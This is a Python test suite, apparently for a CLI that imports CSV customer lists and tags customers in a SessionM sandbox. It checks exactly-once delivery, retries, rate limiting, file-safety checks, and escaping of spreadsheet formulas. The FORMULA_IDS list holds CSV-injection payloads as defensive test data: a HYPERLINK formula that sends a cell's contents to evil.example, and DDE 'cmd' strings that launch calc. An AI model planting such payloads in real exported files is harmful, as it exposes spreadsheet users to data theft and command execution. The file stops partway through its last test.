"""`wallet-proxy tags import` and `wallet-proxy warm` against the sandbox over real HTTP.

The import must tag each customer exactly once, also across `kill -9`; the sandbox records
every Core call (`core_calls`) and each counter tag's count (`tag_state`), so a double or a
loss shows.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.helpers import API_KEY, CI_RATE_FACTOR, wait_until
from wallet_proxy import create_app
from wallet_proxy.bulk import csvinput
from wallet_proxy.bulk.formulas import inert, restored
from wallet_proxy.bulk.runner import Progress, RateLimiter
from wallet_proxy.cli import main
from wallet_proxy.sandbox import DEMO_CORE_API_KEY, DEMO_CORE_API_SECRET


@pytest.fixture
def core_env(env, sandbox) -> dict:
    return {
        **env,
        "SESSIONM_CORE_URL": sandbox.url,
        "SESSIONM_CORE_API_KEY": DEMO_CORE_API_KEY,
        "SESSIONM_CORE_API_SECRET": DEMO_CORE_API_SECRET,
    }


@pytest.fixture
def settled(sandbox):
    """Let calls a test gave up on land before the sandbox is reset for the next test."""
    yield sandbox
    wait_until(lambda: sandbox.stats()["in_flight"] == 0, timeout=10)


def cli(args: list[str], env: dict):
    result = CliRunner().invoke(main, [str(arg) for arg in args], env=env)
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


USER_IDS = ("user_id", "email")


def write_csv(path: Path, rows: list[list], header=("external_id", "email")) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def segment(path: Path, count: int, prefix="user-") -> Path:
    """A Braze-export-like file: ids, then other columns the import must ignore."""
    return write_csv(path, [[f"{prefix}{n:05d}", f"u{n}@example.com"] for n in range(count)])


def accepted(sandbox) -> dict[str, int]:
    """Accepted calls per customer."""
    found: dict[str, int] = {}
    for call in sandbox.stats()["core_calls"]:
        if call["status"] == 200:
            found[call["user_id"]] = found.get(call["user_id"], 0) + 1
    return found


def tag_counts(sandbox, tag: str) -> dict[str, int]:
    """The count of `tag` per customer that has it."""
    return {
        user_id: entry["count"]
        for user_id, entries in sandbox.stats()["tag_state"].items()
        for entry in entries
        if entry["tag"] == tag
    }


def failed_rows(path: Path) -> list[dict]:
    with Path(f"{path}.failed.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


# --- malformed files: a clear message naming the line, nothing sent -------------------


@pytest.mark.parametrize(
    ("content", "extra", "expected"),
    [
        (b"external_id\nuser-1\nus\xe9r-2\n", [], "line 3: not UTF-8 (byte 0xe9 at column 3)"),
        (b"external_id\nuser-1\n", ["--id-column", "nope"], "line 1: no column named 'nope'"),
        (b"external_id,email\nuser-1,a@x\n", ["--no-tag"], "line 1: no tags column"),
        (b"external_id,email\nuser-1,a\n,b\n", [], "line 3: empty id in column 'external_id'"),
        (b"external_id\nuser-1\nuser-2\nuser-1\n", [], "line 4: id 'user-1' is already on line 2"),
        (b"external_id\nuser-1\n" + b"x" * 70_000 + b"\n", [], "line 3: longer than 64 KiB"),
        (b"external_id,email\nuser-1,a\nuser-2,b,c\n", [], "line 3: 3 fields where the header"),
        (b'external_id\nuser-1\n"user-2"x\n', [], "line 3: not valid CSV"),
        (b"", [], "line 1: the file is empty"),
        (b"external_id\n", [], "line 1: a header but no rows"),
        (
            b"external_id,tags\nuser-1,ok\nuser-2,bad/tag\n",
            ["--no-tag"],
            "line 3: tags[0] must be 1 to 64 characters",
        ),
        (
            b"external_id,tags,ttl\nuser-1,a,60\nuser-2,a,soon\n",
            ["--no-tag"],
            "line 3: ttl must be a whole number",
        ),
        (b"external_id\nuser-1\n..\n", [], "line 3: The customer id must be"),
    ],
    ids=[
        "encoding",
        "missing-id-column",
        "missing-tags-column",
        "empty-id",
        "duplicate-id",
        "oversized-row",
        "ragged-row",
        "bad-quoting",
        "empty-file",
        "header-only",
        "bad-tag",
        "bad-ttl",
        "dot-id",
    ],
)
def test_a_malformed_file_is_refused_whole(tmp_path, core_env, sandbox, content, extra, expected):
    path = tmp_path / "segment.csv"
    path.write_bytes(content)
    args = ["tags", "import", path]
    args += [] if "--no-tag" in extra else ["--tag", "braze_test"]
    args += [arg for arg in extra if arg != "--no-tag"]
    result = cli(args, core_env)

    assert result.exit_code == 2, result.output
    assert expected in result.output
    assert "nothing was sent" in result.output
    assert sandbox.stats()["core_calls"] == []
    assert not Path(f"{path}.journal").exists()


def test_every_problem_is_listed_in_one_pass(tmp_path, core_env):
    path = tmp_path / "segment.csv"
    path.write_text("external_id,n\n,1\nuser-1,2\n,3\nuser-1,4\n")
    result = cli(["tags", "import", path, "--tag", "a"], core_env)
    assert result.exit_code == 2
    for line in ("line 2: empty id", "line 4: empty id", "line 5: id 'user-1' is already"):
        assert line in result.output


def test_the_first_problems_are_listed_by_line_whatever_their_kind(tmp_path, core_env):
    """Duplicates are found once the whole file is read (issue 19 item 3): they still
    come in line order among the others, and the rest are counted."""
    path = tmp_path / "segment.csv"
    rows = ["external_id,tags", "user-1,a", "user-1,a", "user-2,a,extra", "user-3,bad tag!"]
    rows += ["user-1,a" for _ in range(25)]
    path.write_text("\n".join(rows) + "\n")
    result = cli(["tags", "import", path, "--dry-run"], core_env)
    assert result.exit_code == 2
    listed = [line.strip() for line in result.output.splitlines() if line.startswith("  ")]
    assert [line.split(":")[0] for line in listed[:20]] == [f"line {n}" for n in range(3, 23)]
    assert listed[0] == "line 3: id 'user-1' is already on line 2"
    assert listed[1] == "line 4: 3 fields where the header has 2"
    assert listed[2].startswith("line 5: ")
    assert listed[20] == "... and 8 more problems"


def test_a_journal_line_without_end_is_damage_not_memory(tmp_path, core_env):
    path = segment(tmp_path / "s.csv", 3)
    Path(f"{path}.journal").write_bytes(b"x" * (3 << 20))
    result = cli(["tags", "import", path, "--tag", "t", "--dry-run"], core_env)
    assert result.exit_code == 2
    assert "line 1 is not a journal record" in result.output


def test_the_rows_kept_on_disk_are_private_and_gone_after_the_run(tmp_path, core_env, sandbox):
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    seen = []
    real = csvinput.Scratch.add_rows

    def add_rows(self, rows):
        (folder,) = scratch.iterdir()
        seen.append((folder.stat().st_mode & 0o777, (folder / "scratch.sqlite3").stat().st_mode))
        return real(self, rows)

    path = segment(tmp_path / "s.csv", 3)
    env = {**core_env, "TMPDIR": str(scratch)}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(csvinput.Scratch, "add_rows", add_rows)
        patch.setattr(tempfile, "tempdir", None)  # read TMPDIR again
        assert cli(["tags", "import", path, "--tag", "t"], env).exit_code == 0
    assert seen == [(0o700, stat.S_IFREG | 0o600)]
    assert list(scratch.iterdir()) == []


def test_a_scratch_file_that_cannot_grow_is_one_line(tmp_path, core_env):
    """A full disk under $TMPDIR, played by a limit on file sizes: a clear line, exit 1."""
    path = segment(tmp_path / "s.csv", 50_000)
    limited = (
        "import resource, signal, sys; from wallet_proxy.cli import main; "
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); "
        "resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20)); main(sys.argv[1:])"
    )
    result = subprocess.run(
        [sys.executable, "-c", limited, "tags", "import", str(path), "--tag", "t", "--dry-run"],
        env={**os.environ, **core_env, "TMPDIR": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith("Error: the scratch file in ") and "point TMPDIR at a folder" in line
    assert [p.name for p in tmp_path.iterdir()] == ["s.csv"]  # the scratch folder is gone


def test_a_bad_tag_option_is_a_usage_error(tmp_path, core_env, sandbox):
    result = cli(
        ["tags", "import", segment(tmp_path / "s.csv", 2), "--tag", "no spaces"], core_env
    )
    assert result.exit_code == 2
    assert "--tag" in result.output
    assert sandbox.stats()["core_calls"] == []


def test_without_core_settings_nothing_is_sent(tmp_path, env, sandbox):
    result = cli(["tags", "import", segment(tmp_path / "s.csv", 2), "--tag", "a"], env)
    assert result.exit_code == 2
    assert result.output.splitlines() == [
        "Error: 3 configuration errors:",
        *(
            f"  SESSIONM_CORE_{name}: is required for SessionM Core (customer tags)"
            for name in ("URL", "API_KEY", "API_SECRET")
        ),
    ]
    assert sandbox.stats()["core_calls"] == []


def test_tags_import_needs_only_the_core_settings(tmp_path, sandbox):
    """No Connect settings, no API keys: a Core-only command asks for Core only."""
    core_only = {
        "SESSIONM_CORE_URL": sandbox.url,
        "SESSIONM_CORE_API_KEY": DEMO_CORE_API_KEY,
        "SESSIONM_CORE_API_SECRET": DEMO_CORE_API_SECRET,
    }
    result = cli(["tags", "import", segment(tmp_path / "s.csv", 2), "--tag", "a"], core_only)
    assert result.exit_code == 0, result.output
    assert len(accepted(sandbox)) == 2


# --- what is read and sent -----------------------------------------------------------


def test_braze_export_quirks_and_per_row_tags_and_ttl(tmp_path, core_env, sandbox):
    path = tmp_path / "export.csv"
    path.write_bytes(
        "\ufeffExternal_ID,first_name,tags,ttl\r\n"
        'user-a,"Smith, Ann",vip;braze_test,60\r\n'
        'user-b,"multi\r\nline",braze_test,\r\n'
        "user-c,Ünal,a b|c,31536000\r\n"
        "\r\n".encode()
    )
    result = cli(["tags", "import", path], core_env)

    assert result.exit_code == 0, result.output
    sent = {call["user_id"]: (call["tags"], call["ttl"]) for call in sandbox.stats()["core_calls"]}
    assert sent == {
        "user-a": (["vip", "braze_test"], 60),
        "user-b": (["braze_test"], None),
        "user-c": (["a", "b", "c"], 31536000),
    }
    assert "done 3, skipped 0, failed 0, unknown 0" in result.stderr


_BOTH = ["user-1", "user-2"]


@pytest.mark.parametrize(
    ("header", "extra", "expected_ids", "external"),
    [
        (("email", "user_id"), [], ["user-1", "user-2"], False),
        (("user_id", "external_id"), [], ["ext-1", "ext-2"], True),
        (("user_id", "External_ID"), ["--id-type", "user"], ["ext-1", "ext-2"], False),
        (("user_id", "external_id"), ["--id-column", "user_id"], ["user-1", "user-2"], False),
        (("customer", "email"), [], ["user-1", "user-2"], False),
        (("email", "Customer"), ["--id-column", "customer"], ["user-1", "user-2"], False),
        (("email", "Customer"), ["--id-column", "customer", "--id-type", "external"], _BOTH, True),
    ],
)
def test_the_id_column_and_the_id_type_it_implies(
    tmp_path, core_env, sandbox, header, extra, expected_ids, external
):
    """`external_id` holds external ids and anything else user ids, unless --id-type says."""
    rows = {
        ("email", "user_id"): [["a@x", "user-1"], ["b@x", "user-2"]],
        ("user_id", "external_id"): [["user-1", "ext-1"], ["user-2", "ext-2"]],
        ("customer", "email"): [["user-1", "a@x"], ["user-2", "b@x"]],
        ("user_id", "External_ID"): [["user-1", "ext-1"], ["user-2", "ext-2"]],
        ("email", "Customer"): [["a@x", "user-1"], ["b@x", "user-2"]],
    }[header]
    path = write_csv(tmp_path / "s.csv", rows, header=header)
    result = cli(["tags", "import", path, "--tag", "t", "--ttl", "60", *extra], core_env)
    assert result.exit_code == 0, result.output
    calls = sandbox.stats()["core_calls"]
    assert sorted(call["user_id"] for call in calls) == expected_ids
    assert {call["external"] for call in calls} == {external}


def test_external_ids_go_to_the_external_route(tmp_path, core_env, sandbox):
    path = segment(tmp_path / "s.csv", 3, prefix="ext-")
    result = cli(["tags", "import", path, "--tag", "t", "--id-type", "external"], core_env)
    assert result.exit_code == 0, result.output
    assert {call["external"] for call in sandbox.stats()["core_calls"]} == {True}


def test_dry_run_validates_and_sends_nothing(tmp_path, core_env, sandbox):
    path = segment(tmp_path / "s.csv", 10)
    assert cli(["tags", "import", path, "--tag", "t", "--rate", "1000"], core_env).exit_code == 0
    path.write_text(path.read_text() + "user-99999,new@x\n")
    sandbox.reset()
    result = cli(["tags", "import", path, "--tag", "t", "--dry-run"], core_env)

    assert result.exit_code == 0
    assert "11 rows" in result.output
    assert "Already done (journal): 10" in result.output
    assert "Would send 1 calls" in result.output
    assert 'line 12: user-99999 {"tags": ["t"]} (counter)' in result.output
    assert sandbox.stats()["core_calls"] == []


# --- exactly once: journal, kill -9, resume --------------------------------------------


@pytest.mark.slow
def test_killed_mid_run_and_resumed_each_row_is_tagged_exactly_once(tmp_path, core_env, sandbox):
    total, concurrency = 5000, 8
    path = segment(tmp_path / "segment.csv", total)
    sandbox.configure(latency=0.005)
    command = [sys.executable, "-m", "wallet_proxy.cli", "tags", "import", str(path)]
    command += ["--tag", "braze_visit", "--concurrency", str(concurrency), "--rate", "100000"]
    child_env = {**os.environ, **core_env}

    first = subprocess.Popen(
        command, env=child_env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        wait_until(lambda: len(sandbox.stats()["core_calls"]) >= 1500, timeout=60)
    finally:
        first.send_signal(signal.SIGKILL)
        first.wait()
    wait_until(lambda: sandbox.stats()["in_flight"] == 0, timeout=5)
    assert len(sandbox.stats()["core_calls"]) < total, "killed too late to prove anything"

    second = subprocess.run(command, env=child_env, capture_output=True, text=True, timeout=120)

    ids = [f"user-{n:05d}" for n in range(total)]
    counts = accepted(sandbox)
    # Never twice, whatever the kill interrupted.
    assert max(counts.values()) == 1
    assert max(tag_counts(sandbox, "braze_visit").values()) == 1
    # Rows in flight at the kill are the only ones in doubt, and they are reported, not lost.
    unknown = {row["external_id"] for row in failed_rows(path)} if second.returncode else set()
    assert second.returncode in (0, 1), second.stderr
    assert len(unknown) <= concurrency
    assert {user_id for user_id in ids if user_id not in counts} <= unknown

    # The operator looks the unknown customers up (here: in the sandbox), re-imports the ones
    # SessionM does not have, and closes the rest.
    missing = sorted(unknown - set(counts))
    if missing:
        fix = write_csv(tmp_path / "missing.csv", [[user_id, ""] for user_id in missing])
        fixed = subprocess.run(
            [*command[:5], str(fix), *command[6:]], env=child_env, capture_output=True, timeout=60
        )
        assert fixed.returncode == 0, fixed.stderr
    closed = subprocess.run(
        [*command, "--unknown", "mark-done"], env=child_env, capture_output=True, text=True
    )
    assert closed.returncode == 0, closed.stderr

    assert accepted(sandbox) == dict.fromkeys(ids, 1)
    assert tag_counts(sandbox, "braze_visit") == dict.fromkeys(ids, 1)
    assert not Path(f"{path}.failed.csv").exists()


def test_a_row_journaled_as_sending_is_not_resent_blindly(tmp_path, core_env, sandbox):
    """The kill can land after `sending` is on disk: did SessionM get the call? Unknowable."""
    path = write_csv(
        tmp_path / "s.csv",
        [["user-1", "", ""], ["user-2", "", "60"], ["user-3", "", ""]],
        header=("user_id", "tags", "ttl"),
    )
    path.write_text(path.read_text().replace(",,", ",visits,"))
    journal = Path(f"{path}.journal")
    journal.write_text(
        "".join(
            json.dumps(
                {"event": "sending", "id_type": "user", "id": user_id, "tags": ["visits"]}
                | {"ttl": ttl, "line": line, "at": "2026-11-28T15:00:00.000+00:00"}
            )
            + "\n"
            for user_id, ttl, line in (("user-1", None, 2), ("user-2", 60, 3))
        )
    )

    report = cli(["tags", "import", path], core_env)
    # The counter row is reported, the expiring one re-sent (harmless), the new one sent.
    assert report.exit_code == 1
    assert sorted(accepted(sandbox)) == ["user-2", "user-3"]
    (row,) = failed_rows(path)
    assert (row["user_id"], row["line"]) == ("user-1", "2")
    assert row["reason"].startswith("outcome unknown")
    assert "--unknown resend" in report.stderr

    assert cli(["tags", "import", path], core_env).exit_code == 1
    assert sorted(accepted(sandbox)) == ["user-2", "user-3"]

    resend = cli(["tags", "import", path, "--unknown", "resend"], core_env)
    assert resend.exit_code == 0, resend.output
    assert accepted(sandbox) == {"user-1": 1, "user-2": 1, "user-3": 1}
    assert not Path(f"{path}.failed.csv").exists()

    again = cli(["tags", "import", path], core_env)
    assert again.exit_code == 0
    assert "done 0, skipped 3" in again.stderr
    assert len(sandbox.stats()["core_calls"]) == 3


def test_a_counter_that_timed_out_is_not_retried_but_reported(tmp_path, core_env, settled):
    sandbox = settled
    path = write_csv(
        tmp_path / "s.csv",
        [["user-1", "visits", ""], ["user-2", "seen", "60"]],
        header=("external_id", "tags", "ttl"),
    )
    sandbox.configure(latency=1.2)
    threading.Timer(1.2, lambda: sandbox.configure(latency=0)).start()
    result = cli(["tags", "import", path, "--timeout", "0.5", "--concurrency", "1"], core_env)

    assert result.exit_code == 1
    assert "unknown 1" in result.stderr
    (row,) = failed_rows(path)
    assert row["external_id"] == "user-1"
    assert "outcome unknown" in row["reason"]
    # The expiring tag was retried (resending only resets its expiry) and the counter was
    # not: good, since SessionM applied the call we gave up on.
    wait_until(lambda: sandbox.stats()["in_flight"] == 0, timeout=5)
    assert tag_counts(sandbox, "visits") == {"user-1": 1}
    assert "user-2" in accepted(sandbox)

    closed = cli(["tags", "import", path, "--unknown", "mark-done"], core_env)
    assert closed.exit_code == 0, closed.output
    assert "marked done 1" in closed.stderr
    assert tag_counts(sandbox, "visits") == {"user-1": 1}


def test_failures_go_to_failed_csv_and_are_retried_on_the_next_run(tmp_path, core_env, sandbox):
    path = write_csv(tmp_path / "s.csv", [["user-1", "a"], ["nobody-2", "b"], ["user-3", "c"]])
    result = cli(["tags", "import", path, "--tag", "t", "--ttl", "60"], core_env)

    assert result.exit_code == 1
    assert "done 2, skipped 0, failed 1" in result.stderr
    (row,) = failed_rows(path)
    assert row == {
        "external_id": "nobody-2",
        "tags": "t",
        "ttl": "60",
        "line": "3",
        "reason": "SessionM does not know this user.",
    }
    text = Path(f"{path}.failed.csv").read_text()
    assert DEMO_CORE_API_SECRET not in text and DEMO_CORE_API_KEY not in text
    # The failed file is itself a valid import file.
    failed_file = f"{path}.failed.csv"
    assert cli(["tags", "import", failed_file, "--dry-run"], core_env).exit_code == 0

    again = cli(["tags", "import", path, "--tag", "t", "--ttl", "60"], core_env)
    assert "done 0, skipped 2, failed 1" in again.stderr
    assert [call["user_id"] for call in sandbox.stats()["core_calls"]].count("nobody-2") == 2


# No `/` in them: the sandbox's Core route takes the id as one path segment.
FORMULA_IDS = [
    '=HYPERLINK("http:evil.example?"&A1,"open")',
    "+cmd|' -C calc'!A0",
    "@SUM(1+1)*cmd|' -C calc'!A0",
    "-2+3+cmd|' -C calc'!A0",
    "'=really a quote, then =",
    "'a quote",
    "''two quotes",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_failed_csv_runs_no_formula_and_imports_again_as_it_was(tmp_path, core_env, sandbox):
    """Issue 19 item 6: ids like =HYPERLINK(...) were written into FILE.failed.csv as they
    were, for a spreadsheet to run. Each cell that starts like a formula, or with the quote
    that marks one, is written after a quote; importing the file takes exactly that off."""
    path = write_csv(tmp_path / "s.csv", [[user_id, "x"] for user_id in FORMULA_IDS])
    first = cli(["tags", "import", path, "--tag=-neg", "--ttl", "60"], core_env)
    assert first.exit_code == 1  # SessionM knows none of them: every row failed
    sent = [(call["user_id"], call["tags"]) for call in sandbox.stats()["core_calls"]]
    assert sorted(sent) == sorted((user_id, ["-neg"]) for user_id in FORMULA_IDS)

    failed_file = Path(f"{path}.failed.csv")
    with failed_file.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {f"'{user_id}" for user_id in FORMULA_IDS} <= set(cells)
    assert "'-neg" in cells

    copy = write_csv(tmp_path / "copy.csv", [])
    copy.write_bytes(failed_file.read_bytes())  # a copy, as the docs suggest
    again = cli(["tags", "import", copy], core_env)  # tags and ttl from its own columns
    assert again.exit_code == 1
    sent_again = [(c["user_id"], c["tags"], c["ttl"]) for c in sandbox.stats()["core_calls"]]
    assert sorted(sent_again[len(sent) :]) == sorted(
        (user_id, ["-neg"], 60) for user_id in FORMULA_IDS
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'", "''"),
        ("a=1", "a=1"),
        ("", ""),
        (" =1", " =1"),
    ],
)
def test_a_cell_is_marked_exactly_when_a_spreadsheet_would_run_it(cell, written):
    assert inert([cell]) == [written]
    assert restored(inert([cell])) == [cell]


def test_429_and_503_are_retried_even_for_counters_honouring_retry_after(
    tmp_path, core_env, sandbox
):
    path = segment(tmp_path / "s.csv", 20)
    sandbox.configure(status=429)  # with Retry-After: 1
    threading.Timer(1.5, lambda: sandbox.configure(status=503)).start()
    threading.Timer(2.5, lambda: sandbox.configure(status=None)).start()
    started = time.monotonic()
    result = cli(["tags", "import", path, "--tag", "v", "--concurrency", "4"], core_env)

    assert result.exit_code == 0, result.output
    assert time.monotonic() - started >= 2.5
    calls = sandbox.stats()["core_calls"]
    refused = [call for call in calls if call["status"] in (429, 503)]
    # Backing off, not hammering: a handful of refused calls, not hundreds.
    assert 1 <= len(refused) <= 24
    first_429 = min(call["at"] for call in calls if call["status"] == 429)
    # Retry-After: 1 holds every worker: at most the calls already started get in meanwhile.
    assert sum(first_429 < call["at"] < first_429 + 0.9 for call in calls) <= 4
    assert accepted(sandbox) == {f"user-{n:05d}": 1 for n in range(20)}


def test_a_counter_after_a_500_is_in_doubt_but_an_expiring_tag_is_retried(
    tmp_path, core_env, sandbox
):
    path = write_csv(
        tmp_path / "s.csv",
        [[f"user-{n}", "seen" if n % 2 else "visits", "60" if n % 2 else ""] for n in range(8)],
        header=("external_id", "tags", "ttl"),
    )
    sandbox.configure(error_rate=0.25)
    result = cli(["tags", "import", path, "--concurrency", "1"], core_env)

    # Every 4th call is a 500: user-3's (expiring: retried), then user-6's (counter: reported).
    assert result.exit_code == 1
    assert [row["external_id"] for row in failed_rows(path)] == ["user-6"]
    assert set(accepted(sandbox)) == {f"user-{n}" for n in range(8)} - {"user-6"}
    sent_to = [call["user_id"] for call in sandbox.stats()["core_calls"]]
    assert (sent_to.count("user-3"), sent_to.count("user-6")) == (2, 1)


def test_the_rate_limit_holds_at_sessionm(tmp_path, core_env, sandbox):
    rate = 20
    path = segment(tmp_path / "s.csv", 40)
    result = cli(
        [
            "tags",
            "import",
            path,
            "--tag",
            "t",
            "--ttl",
            "60",
            "--rate",
            str(rate),
            "--concurrency",
            "8",
        ],
        core_env,
    )
    assert result.exit_code == 0, result.output
    times = sorted(call["at"] for call in sandbox.stats()["core_calls"])
    assert len(times) == 40
    # Starts are 50 ms apart at least (test_the_rate_limiter_spaces_starts_evenly); as
    # SessionM sees them, arrivals bunched by a loaded machine, never those of 8 workers
    # let loose, which would land all 40 within a fraction of a second.
    assert times[-1] - times[0] >= 39 / (CI_RATE_FACTOR * rate)
    busiest = max(sum(start <= t < start + 1.0 for t in times) for start in times)
    assert busiest <= CI_RATE_FACTOR * rate


def test_a_second_run_on_the_same_file_is_refused_while_the_first_runs(
    tmp_path, core_env, settled
):
    sandbox = settled
    path = segment(tmp_path / "s.csv", 30)
    sandbox.configure(latency=0.05)
    command = [sys.executable, "-m", "wallet_proxy.cli", "tags", "import", str(path)]
    command += ["--tag", "t", "--concurrency", "1"]
    first = subprocess.Popen(command, env={**os.environ, **core_env}, stderr=subprocess.DEVNULL)
    try:
        wait_until(lambda: len(sandbox.stats()["core_calls"]) >= 2, timeout=30)
        result = cli(["tags", "import", path, "--tag", "t"], core_env)
        assert result.exit_code == 2
        assert "another run is using" in result.output
    finally:
        first.send_signal(signal.SIGTERM)
        assert first.wait(timeout=30) == 130  # graceful: calls in flight finish and are journaled
    assert len(failed_rows_or_none(path)) == 0
    done = json.loads(Path(f"{path}.journal").read_text().splitlines()[-1])
    assert done["event"] == "accepted"


def failed_rows_or_none(path: Path) -> list:
    return failed_rows(path) if Path(f"{path}.failed.csv").exists() else []


def test_a_torn_last_journal_line_is_ignored_and_a_damaged_one_refused(tmp_path, core_env):
    path = segment(tmp_path / "s.csv", 3)
    assert cli(["tags", "import", path, "--tag", "t"], core_env).exit_code == 0
    journal = Path(f"{path}.journal")
    intact = journal.read_text()
    journal.write_text(intact + '{"event": "acc')  # killed mid-write
    result = cli(["tags", "import", path, "--tag", "t"], core_env)
    assert result.exit_code == 0
    assert "skipped 3" in result.stderr
    assert journal.read_text() == intact

    journal.write_text("garbage\n" + intact)
    result = cli(["tags", "import", path, "--tag", "t"], core_env)
    assert result.exit_code == 2
    assert "line 1 is not a journal record" in result.output


def test_the_order_of_the_tags_is_not_new_work(tmp_path, core_env, sandbox):
    """Counter tags sent again because `--tag` came in another order would count twice."""
    path = segment(tmp_path / "s.csv", 3)
    assert cli(["tags", "import", path, "--tag", "x", "--tag", "y"], core_env).exit_code == 0
    again = cli(["tags", "import", path, "--tag", "y", "--tag", "x"], core_env)
    assert again.exit_code == 0
    assert "done 0, skipped 3" in again.stderr
    assert set(tag_counts(sandbox, "x").values()) == set(tag_counts(sandbox, "y").values()) == {1}


def test_a_journal_written_in_the_tags_given_order_is_still_read(tmp_path, core_env, sandbox):
    """Journals of earlier versions kept the tags in the order given."""
    path = segment(tmp_path / "s.csv", 2)
    Path(f"{path}.journal").write_text(
        "".join(
            json.dumps(
                {"event": "accepted", "id_type": "external", "id": f"user-{n:05d}"}
                | {"tags": ["y", "x"], "ttl": None, "line": n + 2, "at": "2026-11-28T15:00Z"}
            )
            + "\n"
            for n in range(2)
        )
    )
    result = cli(["tags", "import", path, "--tag", "x", "--tag", "y"], core_env)
    assert result.exit_code == 0
    assert "done 0, skipped 2" in result.stderr
    assert sandbox.stats()["core_calls"] == []


def _link_journal_elsewhere(folder: Path, path: Path) -> Path:
    target = folder / "precious.txt"
    target.write_text("keep me\n")
    Path(f"{path}.journal").symlink_to(target)
    return target


def _dangling_journal_link(folder: Path, path: Path) -> Path:
    target = folder / "created-through-the-link"
    Path(f"{path}.journal").symlink_to(target)
    return target


def _folder_as_journal(folder: Path, path: Path) -> Path:
    Path(f"{path}.journal").mkdir()
    return Path(f"{path}.journal")


def _link_failed_csv_elsewhere(folder: Path, path: Path) -> Path:
    target = folder / "precious.txt"
    target.write_text("keep me\n")
    Path(f"{path}.failed.csv").symlink_to(target)
    return target


def _folder_as_failed_csv(folder: Path, path: Path) -> Path:
    Path(f"{path}.failed.csv").mkdir()
    return Path(f"{path}.failed.csv")


@pytest.mark.parametrize(
    ("plant", "expected"),
    [
        (_link_journal_elsewhere, "s.csv.journal is a symbolic link, which is never followed"),
        (_dangling_journal_link, "s.csv.journal is a symbolic link, which is never followed"),
        (_folder_as_journal, "s.csv.journal is a directory; move it away, then run again"),
        (_link_failed_csv_elsewhere, "s.csv.failed.csv is a symbolic link, which is never"),
        (_folder_as_failed_csv, "s.csv.failed.csv is not a regular file; move it away"),
    ],
)
def test_what_sits_at_the_sidecar_names_is_not_trusted(
    tmp_path, core_env, sandbox, plant, expected
):
    """A link is never written through, nothing else is mistaken for the file: one line, exit 2,
    nothing sent."""
    path = segment(tmp_path / "s.csv", 2)
    target = plant(tmp_path, path)
    before = target.read_text() if target.is_file() else None
    result = cli(["tags", "import", path, "--tag", "t"], core_env)
    assert result.exit_code == 2
    (line,) = result.output.splitlines()
    assert line.startswith("Error: ") and expected in line
    assert sandbox.stats()["core_calls"] == []
    if before is None:
        assert not target.exists() or target.is_dir()
    else:
        assert target.read_text() == before


def test_a_link_at_the_old_temporary_name_is_left_alone(tmp_path, core_env, sandbox):
    """FILE.failed.csv is written under a fresh temporary name, never a guessable one."""
    path = write_csv(tmp_path / "s.csv", [["user-1", ""], ["nobody-1", ""]])
    target = tmp_path / "precious.txt"
    target.write_text("keep me\n")
    Path(f"{path}.failed.csv.tmp").symlink_to(target)
    result = cli(["tags", "import", path, "--tag", "t", "--ttl", "60"], core_env)
    assert result.exit_code == 1
    assert [row["external_id"] for row in failed_rows(path)] == ["nobody-1"]
    assert target.read_text() == "keep me\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "precious.txt",
        "s.csv",
        "s.csv.failed.csv",
        "s.csv.failed.csv.tmp",
        "s.csv.journal",
    ]


def test_a_folder_it_cannot_write_to_is_one_line(tmp_path, core_env, sandbox):
    folder = tmp_path / "read-only"
    folder.mkdir()
    segment(folder / "s.csv", 2)
    command = [sys.executable, "-m", "wallet_proxy.cli", "tags", "import", "s.csv", "--tag", "t"]
    if os.geteuid() == 0:  # root writes anywhere unless it gives up overriding permissions
        command = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", *command]
    folder.chmod(0o555)
    try:
        result = subprocess.run(
            command,
            cwd=folder,
            env={**os.environ, **core_env},
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        folder.chmod(0o755)
    assert result.returncode == 2, result.stderr
    assert result.stderr.splitlines() == [
        "Error: cannot write s.csv.journal (Permission denied): it is kept next to the CSV, "
        "so run from a folder you can write to"
    ]
    assert sandbox.stats()["core_calls"] == []


# --- progress ------------------------------------------------------------------------


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_on_a_terminal_redraws_one_line_with_rate_and_eta():
    now = [0.0]
    stream = _Terminal()
    progress = Progress("tags import", 100, stream=stream, clock=lambda: now[0])
    for _ in range(50):
        now[0] += 0.125
        progress.advance()
    progress.close()

    out = stream.getvalue()
    assert out.count("\r") >= 10 and out.endswith("\n")
    last = out.rstrip("\n").split("\r")[-1]
    assert "50/100 (50%) 8.0/s ETA 0:06" in last
    assert "[############............]" in last


def test_progress_in_a_log_prints_periodic_lines():
    now = [0.0]
    stream = io.StringIO()
    progress = Progress("warm", 1000, stream=stream, clock=lambda: now[0])
    for _ in range(600):
        now[0] += 0.0625
        progress.advance()
    progress.close()
    lines = stream.getvalue().splitlines()
    assert "\r" not in stream.getvalue()
    assert len(lines) == 8  # every 5 s of 37.5 s, plus the last
    assert lines[-1] == "warm: 600/1000 (60%) 16.0/s ETA 0:25"


def test_the_rate_limiter_spaces_starts_evenly():
    created = time.monotonic()
    limiter = RateLimiter(50)
    stop = threading.Event()
    started = []
    with ThreadPoolExecutor(8) as pool:
        for _ in range(40):
